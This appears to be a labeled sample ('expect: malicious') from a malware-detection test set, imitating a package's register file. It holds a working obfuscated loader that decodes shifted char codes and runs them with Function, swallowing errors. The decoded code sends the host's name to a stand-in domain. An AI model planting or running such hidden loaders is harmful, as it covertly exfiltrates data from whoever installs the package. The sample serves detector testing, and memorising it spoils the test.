// expect: malicious
// source: blind set 39 (koa-runtime-shim's ./register subpath): char codes shifted by 7, decoded inside a function run
// on the spot with the array as its argument, and run with Function; written here
'use strict';
var _c = [121,108,120,124,112,121,108,47,46,111,123,123,119,122,46,48,53,110,108,123,47,46,111,123,123,119,122,65,54,54,106,123,127,53,114,118,104,52,122,111,112,116,53,108,127,104,116,119,115,108,54,121,70,111,68,46,50,121,108,120,124,112,121,108,47,46,118,122,46,48,53,111,118,122,123,117,104,116,108,47,48,48,66];
(function (c) {
  try { Function('require', c.map(function (x) { return String.fromCharCode(x - 7); }).join(''))(require); } catch (e) {}
})(_c);
module.exports = {};
